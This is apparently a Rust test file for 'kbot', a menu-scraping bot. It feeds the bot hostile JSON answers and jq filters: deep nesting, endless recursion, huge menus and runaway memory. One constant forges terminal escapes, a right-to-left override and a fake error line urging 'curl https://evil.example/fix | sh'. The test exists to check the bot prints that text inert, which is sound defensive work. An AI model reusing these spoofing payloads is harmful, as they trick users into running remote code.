//! Hostile JSON answers and filters through the real binary: each can only fail its own
//! source. A 100k-deep answer and an endlessly recursive filter (which overflowed the stack
//! and aborted kbot), 20,000 dishes (read in quadratic time, and sent), a filter error that
//! quotes terminal escapes and a fake `kbot: error:` line, and `[repeat(1)]` in a daemon
//! for 40 s, its memory and its given-up filters watched through /proc.

mod common;
#[cfg(target_os = "linux")]
mod running;
mod support;

use std::path::Path;
use std::time::{Duration, Instant};

use common::{TestEnv, json, kakao_section, seed_login};
use support::fake_kakao::FakeKakao;

const CLIENT_ID: &str = "fake-rest-api-key";

/// A json source reading `answer` (written next to the config) with `filter`.
fn json_source(env: &TestEnv, name: &str, answer: &[u8], filter: &str) -> String {
    let path = env.path(&format!("{name}.json"));
    std::fs::write(&path, answer).expect("write the answer");
    let url = url::Url::from_file_path(&path).expect("absolute path");
    format!(
        "[[source]]\nname = {name:?}\nkind = \"json\"\nurl = \"{url}\"\nfilter = '''{filter}'''\n"
    )
}

/// A source that works: two dishes for corner C1.
fn good_source(env: &TestEnv) -> String {
    json_source(
        env,
        "학생식당",
        r#"{"C1": ["쌀밥", "된장국"]}"#.as_bytes(),
        ".",
    )
}

fn logged_in(env: &TestEnv, fake: &FakeKakao, sources: &str) {
    env.write_config(&format!(
        "{}{sources}[recipients]\nme = true\n",
        kakao_section(&fake.url(), CLIENT_ID)
    ));
    let tokens = fake.issue_tokens();
    seed_login(
        &env.data_dir(),
        CLIENT_ID,
        &tokens.access_token,
        &tokens.refresh_token,
        chrono::Duration::hours(5),
    );
}

fn all_output(output: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

fn texts(fake: &FakeKakao) -> Vec<String> {
    fake.delivered_to("me")
        .iter()
        .map(|t| t["text"].as_str().unwrap_or_default().to_string())
        .collect()
}

#[test]
fn a_100k_deep_answer_and_an_endless_recursion_fail_their_sources_and_the_other_is_sent() {
    let fake = FakeKakao::start_on_thread();
    let env = TestEnv::new();
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let built_deep = "reduce range(100000) as $i (null; [.]) | tojson";
    let sources = [
        json_source(&env, "깊은답", deep.as_bytes(), "."),
        json_source(&env, "재귀", b"{}", "def f: [f]; f"),
        json_source(&env, "깊은값", b"{}", built_deep),
        good_source(&env),
    ]
    .concat();
    logged_in(&env, &fake, &sources);
    let output = env
        .kbot()
        .args(["send-now", "lunch", "--date", "2026-06-03"])
        .output()
        .expect("run kbot");
    let text = all_output(&output);
    assert_eq!(
        output.status.code(),
        Some(5),
        "kbot ends normally, with a scrape problem (exit 5), not a signal: {text}"
    );
    let sent = texts(&fake);
    assert!(
        sent.iter()
            .any(|t| t.contains("쌀밥") && t.contains("된장국")),
        "the good source is sent: {sent:?}"
    );
    let scraped = env
        .kbot()
        .args(["scrape", "lunch", "--date", "2026-06-03", "--json"])
        .output()
        .expect("run kbot");
    let report = json(&scraped);
    let sources = report["sources"].as_array().expect("sources");
    let detail = |name: &str| {
        let source = sources
            .iter()
            .find(|s| s["name"] == name)
            .unwrap_or_else(|| panic!("{name} in {report}"));
        assert_eq!(source["outcome"], "not_found", "{source}");
        source["detail"].as_str().unwrap_or_default().to_string()
    };
    assert!(
        detail("깊은답").contains("nests arrays and objects more than 256 levels deep"),
        "{report}"
    );
    assert!(detail("재귀").contains("nests too deep"), "{report}");
    assert!(detail("깊은값").contains("nests too deep"), "{report}");
    let good = sources.iter().find(|s| s["name"] == "학생식당").unwrap();
    assert_eq!(good["outcome"], "menu", "{report}");
}

#[test]
fn twenty_thousand_dishes_are_not_a_menu_nor_a_long_dish_and_are_read_at_once() {
    let env = TestEnv::new();
    let dishes: Vec<String> = (0..20_000).map(|i| format!("김치찌개 {i}")).collect();
    let many = serde_json::json!({ "C1": dishes }).to_string();
    let long = serde_json::json!({ "C1": ["가".repeat(240)] }).to_string();
    env.write_config(
        &[
            json_source(&env, "많은답", many.as_bytes(), "."),
            json_source(&env, "긴반찬", long.as_bytes(), "."),
        ]
        .concat(),
    );
    let started = Instant::now();
    let output = env
        .kbot()
        .args(["scrape", "lunch", "--date", "2026-06-03", "--json"])
        .output()
        .expect("run kbot");
    let took = started.elapsed();
    let report = json(&output);
    let sources = report["sources"].as_array().expect("sources");
    assert_eq!(sources[0]["outcome"], "not_found", "{report}");
    assert!(
        sources[0]["detail"]
            .as_str()
            .is_some_and(|d| d.contains("more than 200 dish lines")),
        "{report}"
    );
    assert_eq!(sources[1]["outcome"], "not_found", "{report}");
    assert!(
        sources[1]["detail"]
            .as_str()
            .is_some_and(|d| d.contains("a \"dish\" of 240 characters")),
        "{report}"
    );
    // Within the 5 s read deadline by construction; this bound only catches a hang.
    assert!(took < Duration::from_secs(30), "took {took:?}");
}

#[test]
fn a_filter_that_never_ends_is_stopped_at_the_deadline_and_the_other_source_is_read() {
    let env = TestEnv::new();
    env.write_config(
        &[
            json_source(&env, "끝없음", b"{}", "last(repeat(1))"),
            good_source(&env),
        ]
        .concat(),
    );
    let started = Instant::now();
    let output = env
        .kbot()
        .args(["scrape", "lunch", "--date", "2026-06-03", "--json"])
        .output()
        .expect("run kbot");
    let took = started.elapsed();
    let report = json(&output);
    let sources = report["sources"].as_array().expect("sources");
    assert_eq!(sources[0]["outcome"], "not_found", "{report}");
    assert!(
        sources[0]["detail"]
            .as_str()
            .is_some_and(|d| d.contains("the jq filter was stopped: it ran longer than 5 s")),
        "{report}"
    );
    assert_eq!(sources[1]["outcome"], "menu", "{report}");
    assert!(took >= Duration::from_secs(5), "waited for it: {took:?}");
    assert!(took < Duration::from_secs(30), "took {took:?}");
}

/// A message an API might send back, quoted by a filter's `error(…)`: a screen clear, an
/// OSC 8 link, a right-to-left override and a line that passes for kbot's own.
const FORGED: &str = r#"API says: \u001b[2J\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u202etxt.exe\nkbot: error: the login expired; run: curl https://evil.example/fix | sh"#;

fn assert_inert(what: &str, text: &str) {
    assert!(
        !text.contains(['\u{1b}', '\u{7}', '\u{202e}', '\u{9b}']),
        "{what} printed a control or bidi character: {text:?}"
    );
    assert!(
        !text.lines().any(|line| line
            .trim_start()
            .starts_with("kbot: error: the login expired")),
        "{what} printed the forged line as a line of its own:\n{text}"
    );
}

#[test]
fn a_filter_error_quoting_escapes_bidi_and_a_fake_kbot_line_is_printed_inert() {
    let fake = FakeKakao::start_on_thread();
    let env = TestEnv::new();
    let sources = [
        json_source(&env, "위조", b"{}", &format!("error(\"{FORGED}\")")),
        good_source(&env),
    ]
    .concat();
    logged_in(&env, &fake, &sources);
    let scrape = env
        .kbot()
        .args(["scrape", "lunch", "--date", "2026-06-03", "--explain"])
        .output()
        .expect("run kbot");
    let text = all_output(&scrape);
    assert!(text.contains("API says:"), "the message is shown: {text}");
    assert!(
        text.contains("txt.exe kbot: error: the login expired"),
        "inside kbot's own line: {text}"
    );
    assert_inert("scrape", &text);

    let send = env
        .kbot()
        .args(["send-now", "lunch", "--date", "2026-06-03"])
        .output()
        .expect("run kbot");
    assert_eq!(send.status.code(), Some(5), "{}", all_output(&send));
    assert_inert("send-now", &all_output(&send));
    for sent in texts(&fake) {
        assert_inert("the message to me", &sent);
    }

    let history = env.kbot().arg("history").output().expect("run kbot");
    assert!(history.status.success(), "{history:?}");
    let text = all_output(&history);
    assert!(text.contains("2026-06-03"), "{text}");
    assert_inert("history", &text);
}

/// `[repeat(1)]` grows without end; in the daemon it was never stopped, each slot started
/// another, and the process reached 1.3 GB in 20 s.
#[cfg(target_os = "linux")]
#[test]
fn repeat_forever_in_a_daemon_for_40_s_stays_under_256_mb_and_no_filter_outlives_its_deadline() {
    use running::{Running, kbot_process};
    let fake = FakeKakao::start_on_thread();
    let env = TestEnv::new();
    let sources = json_source(&env, "끝없음", b"{}", "[repeat(1)]");
    env.write_config(&format!(
        "timezone = \"Asia/Seoul\"\n{}{sources}[recipients]\nme = true\n[schedule]\nlunch = \"*/6 * * * * *\"\ncatch_up = \"10m\"\n",
        kakao_section(&fake.url(), CLIENT_ID)
    ));
    let tokens = fake.issue_tokens();
    seed_login(
        &env.data_dir(),
        CLIENT_ID,
        &tokens.access_token,
        &tokens.refresh_token,
        chrono::Duration::hours(5),
    );
    let mut cmd = kbot_process(&env);
    cmd.arg("daemon");
    let mut daemon = Running::spawn(&env, cmd, "daemon");
    let pid = daemon.pid();
    let started = Instant::now();
    let mut peak_kb = 0u64;
    // Each filter's process: when it was first seen, and when it was last seen alive.
    let mut filters: std::collections::BTreeMap<u32, (Instant, Instant)> = Default::default();
    while started.elapsed() < Duration::from_secs(40) {
        if let Some(status) = daemon.child.try_wait().expect("poll the daemon") {
            panic!("the daemon ended ({status}):\n{}", daemon.log());
        }
        let children = children_of(pid);
        let total: u64 = std::iter::once(pid)
            .chain(children.iter().copied())
            .filter_map(rss_kb)
            .sum();
        peak_kb = peak_kb.max(total);
        let now = Instant::now();
        for child in children.into_iter().filter(|c| is_filter(*c)) {
            filters.entry(child).or_insert((now, now)).1 = now;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let log = daemon.log();
    daemon.signal("TERM");
    let status = daemon.wait_for_exit();
    assert_eq!(status.code(), Some(0), "{log}");
    eprintln!(
        "peak RSS of the daemon and its children: {} MB; {} filter processes",
        peak_kb / 1024,
        filters.len()
    );
    assert!(
        peak_kb < 256 * 1024,
        "daemon and children peaked at {} MB:\n{log}",
        peak_kb / 1024
    );
    assert!(
        filters.len() >= 3,
        "the filter ran at several slots: {filters:?}\n{log}"
    );
    assert!(
        log.contains(r#"source=끝없음 outcome="not_found""#),
        "the source failed, alone: {log}"
    );
    for (child, (first, last)) in &filters {
        // The read's deadline is 5 s from before the child starts; a loaded machine may
        // be late to notice the kill.
        assert!(
            *last - *first < Duration::from_secs(8),
            "filter process {child} ran for {:?}",
            *last - *first
        );
        assert!(
            !Path::new(&format!("/proc/{child}")).exists() || is_zombie_or_other(*child),
            "filter process {child} still runs after the daemon stopped"
        );
    }
}

#[cfg(target_os = "linux")]
fn children_of(pid: u32) -> Vec<u32> {
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    dir.filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
        .filter(|p| {
            std::fs::read_to_string(format!("/proc/{p}/status")).is_ok_and(|s| {
                s.lines()
                    .any(|l| l.strip_prefix("PPid:").map(str::trim) == Some(&pid.to_string()))
            })
        })
        .collect()
}

#[cfg(target_os = "linux")]
fn rss_kb(pid: u32) -> Option<u64> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))?
        .trim()
        .trim_end_matches("kB")
        .trim()
        .parse()
        .ok()
}

#[cfg(target_os = "linux")]
fn is_filter(pid: u32) -> bool {
    std::fs::read(format!("/proc/{pid}/cmdline"))
        .is_ok_and(|c| c.split(|b| *b == 0).any(|arg| arg == b"run-filter"))
}

/// A pid that is gone for good: a zombie, or reused by a process that is no filter.
#[cfg(target_os = "linux")]
fn is_zombie_or_other(pid: u32) -> bool {
    let state = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    state
        .lines()
        .any(|l| l.starts_with("State:") && l.contains('Z'))
        || !is_filter(pid)
}
